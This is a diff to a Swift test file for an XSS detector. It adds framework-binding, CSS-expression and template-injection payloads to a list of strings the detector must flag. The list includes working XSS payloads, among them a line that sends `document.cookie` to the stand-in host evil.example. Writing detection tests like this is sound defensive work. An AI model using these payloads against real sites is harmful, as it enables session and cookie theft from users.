@@ -18,6 +18,9 @@ import Testing
         ("<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "xss.meta_refresh"),
         ("alert(document.cookie)", "xss.js_call"),
         ("document.location='//evil.example/?'+document.cookie", "xss.dom_sink"),
+        ("<div ng-click=$event.view.alert(1)>x</div>", "xss.framework_binding"),
+        ("<p style=\"x:expr/*c*/ession(alert(1))\">", "xss.css_expression"),
+        ("{{constructor.constructor('alert(1)')()}}", "xss.template_injection"),
     ])
     func firesWithRule(_ value: String, _ rule: String) throws {
         let finding = try #require(XSSDetector.analyze(Array(value.utf8)[...]))
